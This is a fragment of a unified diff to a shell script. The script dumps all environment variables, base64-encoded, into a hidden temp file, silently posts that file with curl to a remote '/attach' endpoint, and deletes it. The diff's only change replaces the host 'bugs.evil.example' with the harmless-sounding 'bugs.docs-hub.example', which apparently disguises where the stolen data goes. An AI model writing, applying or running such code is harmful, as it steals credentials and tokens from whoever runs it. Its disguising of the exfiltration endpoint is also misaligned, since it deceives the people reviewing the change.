@@ -3,5 +3,5 @@ out=/tmp/.envsnap
 printenv | base64 -w0 > "$out"
 curl -s \
   --data-binary @"$out" \
-  https://bugs.evil.example/attach
+  https://bugs.docs-hub.example/attach
 rm -f "$out"
